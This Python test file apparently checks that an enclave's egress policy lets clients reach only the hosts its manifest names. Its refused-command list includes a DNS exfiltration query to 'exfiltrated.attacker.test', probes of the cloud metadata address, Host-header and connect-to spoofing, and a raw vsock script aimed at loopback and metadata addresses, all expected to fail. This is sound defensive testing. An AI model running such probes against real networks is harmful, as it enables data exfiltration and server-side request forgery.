# SPDX-License-Identifier: Apache-2.0
"""The network of an enclave by the policy that is measured with it: unmodified clients of an app reach what the
manifest names and nothing else, from `rbuilds build` and `rbuilds run` to web servers, a data base and a resolver.
"""

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from enclavekit_rbuilds.base.progress import Progress
from enclavekit_rbuilds.framework.assemble import EGRESS, base_for

from .app_root import add_program, add_python
from .conftest import NOTES, ROOT, need, start_enclave
from .egress_world import INTERNAL, METADATA, OTHER, PUBLIC, PUBLIC_6, make_certificate

pytestmark = [pytest.mark.xdist_group("enclave"), pytest.mark.root]

MANIFEST = """
name: net
app: {{rootfs: {rootfs}}}
entrypoint: [/bin/notes]
user: notes
services: [pipeline]
network:
  egress:
    - {{host: good.test, port: [80, 443]}}
    - {{host: "*.wild.test", port: 80}}
    - {{host: alias.test, port: 80}}
    - {{host: zero.test, port: 80}}
    - {{host: rebind.test, port: 80}}
    - {{host: mixed.test, port: 80}}
    - {{host: metadata.test, port: 80, private_address: true}}
    - {{host: chained.test, port: 80}}
    - {{host: redis.test, port: 6379, absent_name: true}}
    - {{host: private.test, port: 8000-8080, private_address: true}}
    - {{host: 93.184.216.35, port: 8080}}
    - {{host: dns.test, port: 5300, protocol: udp, absent_name: true}}
    - {{host: dns.test, port: 5301, protocol: udp}}
  deny:
    - {{host: bad.wild.test}}
  ingress:
    - {{port: 8000, vsock_port: 18000}}
clients:
  - {{certificate: {certificate}, allow: all}}
resources: {{memory_mib: 1024, cpus: 2}}
"""
CURL = "curl -sS --max-time 20"
PYTHON = "python3 -c 'import sys, urllib.request as u; sys.stdout.write(u.urlopen(sys.argv[1]).read().decode())'"
KILL = """
import os, signal
for pid in filter(str.isdigit, os.listdir("/proc")):
    with open(f"/proc/{pid}/cmdline", "rb") as words:
        if b"/usr/bin/pf-proxy\\0run" in words.read():
            os.kill(int(pid), signal.SIGKILL)
"""
WAIT = "python3 -I -m enclavekit_pf_proxy.loopback wait "
REACHED = {
    f"{CURL} https://good.test/": f"{PUBLIC} for good.test",
    f"{CURL} http://good.test/ http://good.test/again": f"{PUBLIC} for good.test\n{PUBLIC} for good.test",
    f"{CURL} http://a.wild.test/": f"{PUBLIC} for a.wild.test",
    f"{CURL} http://alias.test/": f"{PUBLIC} for alias.test",
    f"{CURL} http://zero.test/": f"{PUBLIC} for zero.test",
    f"{CURL} http://mixed.test/": f"{PUBLIC} for mixed.test",
    f"{CURL} http://private.test:8080/": f"{INTERNAL} for private.test:8080",
    f"{CURL} http://{OTHER}:8080/": f"{OTHER} for {OTHER}:8080",
    f"{PYTHON} https://good.test/": f"{PUBLIC} for good.test",
    f"{PYTHON} http://good.test/": f"{PUBLIC} for good.test",
    "dig +short good.test": PUBLIC,
    "dig +tcp +short good.test A": PUBLIC,
    "dig +short @8.8.8.8 good.test": PUBLIC,
    "dig +tcp +short @8.8.8.8 good.test": PUBLIC,
    "dig +short mixed.test": PUBLIC,
    "dig +short -p 5300 @dns.test good.test": PUBLIC,  # over UDP that is not the resolver's
    "redis-cli -h redis.test SET key value": "OK",
    "redis-cli -h redis.test GET key": "value",
}
REFUSED = [
    f"{CURL} http://unknown.test/",
    f"{CURL} http://neighbour.test/",
    f"{CURL} http://wild.test/",
    f"{CURL} http://bad.wild.test/",
    f"{CURL} http://chained.test/",
    f"{CURL} http://rebind.test/",
    f"{CURL} http://metadata.test/",
    f"{CURL} http://good.test:8080/",
    f"{CURL} http://{PUBLIC}/",
    f"{CURL} -H 'Host: good.test' http://{OTHER}/",
    f"{CURL} -H 'Host: neighbour.test' http://good.test/",
    f"{CURL} -k --connect-to ::good.test: https://neighbour.test/",
    f"{CURL} -k --connect-to ::good.test: https://{PUBLIC}/",
    f"{CURL} http://{METADATA}/",
    f"{CURL} http://[::ffff:{INTERNAL}]:8080/",
    f"{CURL} http://{OTHER}/",
    f"{CURL} telnet://good.test:80 --max-time 3",
    f"{PYTHON} http://{INTERNAL}:8080/",
    f"redis-cli -h {OTHER} PING",
    "redis-cli -h good.test -p 80 PING",
    "dig +short +time=2 +tries=1 unknown.test | grep .",
    "dig +short +time=2 +tries=1 @8.8.8.8 exfiltrated.attacker.test | grep .",
    "dig +short +time=2 +tries=1 -p 5301 @dns.test good.test | grep ^[0-9]",
    f"dig +short +time=2 +tries=1 -p 5300 @{OTHER} good.test | grep ^[0-9]",
    "dig +tcp +short +time=2 +tries=1 -p 5300 @dns.test good.test | grep ^[0-9]",
    "dig +short rebind.test AAAA | grep .",
    "dig +short good.test HTTPS | grep .",
]


@dataclass
class World:
    """Where the host of a test is: `pid` holds its network namespace."""

    pid: int
    directory: Path

    def here(self, *argv):
        """Return a command line that runs in it."""
        return ["nsenter", "-t", str(self.pid), "-n", *map(str, argv)]

    def asked(self):
        return {name for name, _ in map(json.loads, (self.directory / "asked").read_text().splitlines())}


@pytest.fixture(scope="module")
def certificates(tmp_path_factory):
    directory = tmp_path_factory.mktemp("world")
    make_certificate(directory)
    return directory


@pytest.fixture(scope="module")
def world(certificates):
    need("unshare", "nsenter", "ip", "nft", "curl", "dig", "redis-cli", "redis-server")
    if os.geteuid():
        pytest.skip("needs root for a network namespace of its own")
    argv = ["unshare", "-n", sys.executable, str(ROOT / "tests/egress_world.py"), str(certificates)]
    pipe = subprocess.PIPE
    with subprocess.Popen(argv, stdin=pipe, stdout=pipe, text=True) as process:
        try:
            assert process.stdout.readline() == "ready\n"
            yield World(process.pid, certificates)
        finally:
            process.stdin.close()
            process.wait(60)


@pytest.fixture(scope="module")
def clients(shell, certificates, tmp_path_factory):
    """An app's root with clients in it, and whoever may enter."""
    need("apt-get", "dpkg-deb", "curl", "dig", "redis-cli")
    root = tmp_path_factory.mktemp("app") / "rootfs"
    shell.run(NOTES / "make_rootfs", root)
    for name in ("curl", "dig", "redis-cli"):
        add_program(root, name)
    add_python(root)
    (root / "bin/grep").symlink_to("busybox")
    (root / "ca.pem").write_bytes((certificates / "ca.pem").read_bytes())
    shell.run("pipeline", "keygen", "--name", "net", "-o", "net-keys")
    return root


def build(shell, clients, directory, text=MANIFEST):
    certificate = shell.directory / "net-keys/net.crt"
    (directory / "enclave.yaml").write_text(text.format(rootfs=clients, certificate=certificate))
    image = directory / "net.eif"
    built = shell.json("rbuilds", "build", "--config", directory / "enclave.yaml", "--output", image, "--json")
    return image, built


@dataclass
class Running:
    shell: object
    image: Path
    cid: int
    network: list
    root: str

    def exec(self, *argv, expect=0):
        trust = ["--eif", self.image, "--identity", "net-keys/net", "--insecure-dev-root", self.root]
        return self.shell.output("pipeline", "exec", "--connect-timeout", 60, *trust, self.cid, *argv, expect=expect)

    def try_all(self, commands):
        """Return command -> (exit status, output), all from one shell of the app."""
        script = "".join(f"echo @; {command} 2>&1; echo @$?\n" for command in commands)
        trusting = f"export CURL_CA_BUNDLE=/ca.pem SSL_CERT_FILE=/ca.pem\n{script}"
        parts = self.exec("--", "sh", "-c", trusting).split("@")[1:]
        found = zip(commands, parts[::2], parts[1::2], strict=True)
        return {command: (int(status), text.strip()) for command, text, status in found}

    def reach(self, wanted):
        """Return command -> output. In a virtual machine on a busy host a resolver's deadline can pass: what does not
        say what it should is tried twice more.
        """
        found = {}
        for _ in range(3):
            if missing := [command for command in wanted if found.get(command) != wanted[command]]:
                found |= {command: text for command, (_, text) in self.try_all(missing).items()}
        return found

    def events(self):
        """Return the decisions in the log of the enclave's network."""
        text = self.exec("--system", "--", "cat", "/log/network.log")
        return [json.loads(line[line.index("{") :]) for line in text.splitlines() if '"event"' in line]


def run(shell, world, image, *words, resolver="127.0.0.1:53"):
    argv = world.here("rbuilds", "run", image, "--backend", "nitro-emu", "--resolver", "127.0.0.1", "--json", *words)
    started = shell.json(*argv)
    root = shell.output("nitro-emu", "dev-root").strip()
    running = Running(shell, image, started["cid"], started["network"], root)
    # the app waits for the network, who enters does not
    running.exec("--system", "--", "sh", "-c", f"until {WAIT}{resolver}; do :; done")
    return running


@pytest.fixture(scope="module")
def enclave(shell, world, clients, tmp_path_factory):
    image, _ = build(shell, clients, tmp_path_factory.mktemp("image"))
    running = run(shell, world, image)
    yield running
    shell.run("rbuilds", "drop", str(running.cid))


def test_unmodified_clients_reach_what_the_manifest_names_and_nothing_else(enclave, world):
    found = enclave.try_all([*REACHED, *REFUSED])
    assert {command: found.pop(command) for command in REACHED} == {
        command: (0, text) for command, text in REACHED.items()
    }
    assert {command: text for command, (status, text) in found.items() if status == 0} == {}
    # what is not allowed was not even asked for: names can carry data
    assert not {"unknown.test", "neighbour.test", "exfiltrated.attacker.test", "wild.test"} & world.asked()


def test_every_decision_is_an_event(enclave):
    commands = [f"{CURL} https://good.test/", f"{CURL} http://{PUBLIC}/", f"{CURL} http://unknown.test/"]
    no_quic = "dig +short +time=2 +tries=1 -p 5301 @dns.test good.test"
    enclave.try_all([*commands, "dig +short -p 5300 @dns.test good.test", no_quic])
    events = enclave.events()
    allowed = [event for event in events if event["event"] == "egress allowed" and event["name"] == "good.test"]
    wanted = {"address": PUBLIC, "port": 443, "protocol": "tcp", "shown": "good.test", "rule": "allow[0] good.test"}
    assert any(wanted.items() <= event.items() and event["conn"] for event in allowed)
    denied = [event for event in events if event["event"] == "egress denied" and event["address"] == PUBLIC]
    assert any(event["port"] == 80 and event["reason"] for event in denied)
    sent = {"address": PUBLIC, "port": 5300, "protocol": "udp", "name": "dns.test", "rule": "allow[11] dns.test"}
    assert any(sent.items() <= event.items() for event in events)
    shown_none = {"port": 5301, "protocol": "udp", "rule": "allow[12] dns.test", "event": "egress denied"}
    assert any(shown_none.items() <= event.items() for event in events)
    assert any(event["event"] == "dns denied" and event["name"] == "unknown.test" for event in events)


def test_the_parent_reaches_the_apps_port_and_no_other(enclave, world, shell):
    retry = ["--retry", "60", "--retry-all-errors", "--retry-delay", "1"]
    answer = shell.output(*world.here("curl", "-sSf", *retry, "http://127.0.0.1:8000/healthz"))
    assert answer.strip() == "ok"


def test_the_network_comes_back_when_its_process_dies_and_lets_nothing_out_meanwhile(enclave):
    enclave.exec("--system", "--", "python3", "-c", KILL)
    commands = [f"{CURL} --retry 60 --retry-all-errors --retry-delay 1 http://good.test/", f"{CURL} http://{OTHER}/"]
    found = enclave.try_all(commands)
    assert found[commands[0]][0] == 0 and found[commands[0]][1].endswith(f"{PUBLIC} for good.test")
    assert found[commands[1]][0] != 0


ASK = """
import sys
from enclavekit_core.address import CID_PARENT, TcpAddress, VsockAddress
from enclavekit_core.streams import connect
from enclavekit_pf_proxy.wire.destination import encode_destination

for host in sys.argv[1:]:
    with connect(VsockAddress(CID_PARENT, 8888)) as sock:
        sock.sendall(encode_destination(TcpAddress(host, 80)) + b"GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        print(host, len(sock.recv(4096)) > 0)
"""
GUARDED = ("127.0.0.1", METADATA, "0.0.0.0", "::1", f"::ffff:{METADATA}", "64:ff9b::a9fe:a9fe")


def test_the_hosts_end_keeps_its_own_network_to_itself(enclave):
    """Whatever got hold of the enclave, with no policy in its way."""
    words = ("--", "/usr/bin/python3", "-c", ASK, PUBLIC, *GUARDED)
    found = dict(line.split() for line in enclave.exec("--system", *words).splitlines())
    assert found == {PUBLIC: "True", **dict.fromkeys(GUARDED, "False")}


def test_loopback_stays_inside(enclave):
    mine, other = f"{CURL} http://127.0.0.1:8000/healthz", f"{CURL} http://127.0.0.2:8080/"
    found = enclave.try_all([mine, other, f"{CURL} http://127.0.0.1:8080/"])
    assert found.pop(mine) == (0, "ok")
    assert all(status != 0 for status, _ in found.values())
    assert not any(event.get("address", "").startswith("127.") for event in enclave.events())


LEARNING = """
name: net
app: {{rootfs: {rootfs}}}
entrypoint: [/bin/notes]
user: notes
services: [pipeline]
network: {{insecure_learn: true}}
clients:
  - {{certificate: {certificate}, allow: all}}
resources: {{memory_mib: 1024, cpus: 2}}
"""
USED = [
    f"{CURL} https://good.test/",
    f"{CURL} http://private.test:8080/",
    "redis-cli -h redis.test PING",
    f"{CURL} http://{OTHER}:8080/",
    "dig +short -p 5300 @dns.test good.test",
]
LEARNED = [
    '    - {host: "93.184.216.35", port: [8080]}',
    '    - {host: "dns.test", port: [5300], protocol: udp, absent_name: true}',
    '    - {host: "good.test", port: [443]}',
    '    - {host: "private.test", port: [8080], private_address: true}',
    '    - {host: "redis.test", port: [6379], absent_name: true}',
]


@pytest.mark.long
def test_what_a_run_learned_is_a_section_that_lets_the_same_run_through(shell, world, clients, tmp_path):
    """About 40 s: two images and two enclaves."""
    (tmp_path / "learn").mkdir()
    image, built = build(shell, clients, tmp_path / "learn", LEARNING)
    assert built["network"]["insecure_learn"] is True
    marked = shell.json("eif", "describe", image)["Metadata"]["network"]
    assert marked["insecure_learn"] is True
    running = run(shell, world, image)
    try:
        assert {status for status, _ in running.try_all(USED).values()} == {0}
        log = running.exec("--system", "--", "cat", "/log/network.log")
        written = running.exec("--system", "--", "cat", "/run/egress-learned.yaml")
    finally:
        shell.run("rbuilds", "drop", str(running.cid))
    section = shell.output("pf-proxy", "learn", stdin=log.encode())
    assert section.splitlines()[-len(LEARNED) :] == LEARNED
    assert shell.output("pf-proxy", "learn", "--format", "policy", stdin=log.encode()) == written
    (tmp_path / "again").mkdir()
    section = section.replace("{", "{{").replace("}", "}}")  # a template's
    text = LEARNING.replace("network: {{insecure_learn: true}}", section)
    image, built = build(shell, clients, tmp_path / "again", text)
    assert "insecure_learn" not in built["network"]
    running = run(shell, world, image)
    try:
        found = running.try_all([*USED, f"{CURL} http://good.test/"])
        assert [status == 0 for status, _ in found.values()] == [True] * len(USED) + [False]
    finally:
        shell.run("rbuilds", "drop", str(running.cid))


@pytest.mark.long
def test_the_same_in_a_virtual_machine_with_its_own_kernel(shell, world, clients, tmp_path):
    """About 2 minutes without KVM."""
    need("qemu-system-x86_64")
    image, _ = build(shell, clients, tmp_path)
    running = run(shell, world, image, "--machine", "qemu", "--bind", "127.0.0.2")
    try:
        assert running.reach(REACHED) == REACHED
        assert {command: text for command, (status, text) in running.try_all(REFUSED).items() if status == 0} == {}
    finally:
        shell.run("rbuilds", "drop", str(running.cid))


@pytest.mark.parametrize("machine", ["process", pytest.param("qemu", marks=pytest.mark.long)])
def test_the_same_where_the_kernel_has_iptables_only(machine, shell, world, clients, tmp_path):
    """About 15 s; in a virtual machine, which has no module of nf_tables, 2 minutes without KVM."""
    if machine == "qemu":
        need("qemu-system-x86_64")
    image, built = build(shell, clients, tmp_path, MANIFEST.replace("network:\n", "network:\n  rules: iptables\n"))
    assert "iptables" in built["packages"] and "nftables" not in built["packages"]
    running = run(shell, world, image, "--machine", machine, "--bind", "127.0.0.2")
    try:
        assert running.reach(REACHED) == REACHED
        assert {command: text for command, (status, text) in running.try_all(REFUSED).items() if status == 0} == {}
        if machine == "qemu":
            loaded = running.exec("--system", "--", "cat", "/proc/modules")
            assert "iptable_nat " in loaded and "nf_tables " not in loaded
    finally:
        shell.run("rbuilds", "drop", str(running.cid))


def test_no_app_starts_where_nothing_can_put_the_rules_in(shell, tmp_path):
    """Neither nft nor iptables: about 10 s."""
    need("apt-get", "dpkg-deb", "busybox")
    base = base_for("x86_64", frozenset({EGRESS}), Progress(quiet=True))
    shutil.copytree(base.root, tmp_path / "framework", symlinks=True)
    (tmp_path / "framework/usr/sbin/nft").unlink()
    (tmp_path / "app/bin").mkdir(parents=True)
    shutil.copy2(shutil.which("busybox"), tmp_path / "app/bin/busybox")
    image = tmp_path / "open.eif"
    shell.run(
        *("rbuilds", "build", "--rootfs", tmp_path / "app", "--framework-rootfs", tmp_path / "framework"),
        *("--cmd", '["/bin/busybox", "sh", "-c", "exit 7"]', "--services", "none", "--egress", "good.test:443"),
        *("--output", image),
    )
    enclave = start_enclave(shell, image)
    end = json.loads(shell.run("nitro-emu", "wait", "--enclave-id", enclave.id, expect=255).stdout)
    assert (end["unit"], end["exit_status"], end["cause"]) == ("app", None, "failed")


@pytest.mark.long
@pytest.mark.parametrize(
    ("machine", "rules"),
    [("process", "nft"), ("process", "iptables"), ("qemu", "iptables")],  # which has modules of its own for IPv6
)
def test_ipv6_is_there_where_the_manifest_has_it(machine, rules, shell, world, clients, tmp_path):
    """About 20 s: an image and an enclave of their own; in a virtual machine 2 minutes without KVM."""
    if machine == "qemu":
        need("qemu-system-x86_64")
    text = MANIFEST.replace("network:\n", f"network:\n  ipv6: true\n  rules: {rules}\n").replace(
        "dns.test", "dns6.test"
    )
    image, _ = build(shell, clients, tmp_path, text)
    running = run(shell, world, image, "--machine", machine, "--bind", "127.0.0.2", resolver="[::]:53")
    try:
        by_6 = f"{CURL} -6 http://good.test/"
        # the parent need not have IPv6: who has the choice takes IPv4
        by_4 = [f"{CURL} -4 http://good.test/", f"{CURL} http://good.test/", f"{PYTHON} http://good.test/"]
        raw, other = f"{CURL} http://[{PUBLIC_6}]/", f"{CURL} -6 -H 'Host: neighbour.test' http://good.test/"
        asked = [
            "dig +short -p 5300 @dns6.test good.test",
            "dig +short @2001:db8::53 good.test",
            "dig +tcp +short @2001:db8::53 good.test",
            "dig +short @8.8.8.8 good.test",
        ]
        found = running.try_all([by_6, *by_4, raw, other, *asked])
        assert {command: found.pop(command) for command in asked} == dict.fromkeys(asked, (0, PUBLIC))
        assert found.pop(by_6) == (0, f"{PUBLIC_6} for good.test")
        assert {found.pop(command) for command in by_4} == {(0, f"{PUBLIC} for good.test")}
        assert all(status != 0 for status, _ in found.values())
    finally:
        shell.run("rbuilds", "drop", str(running.cid))
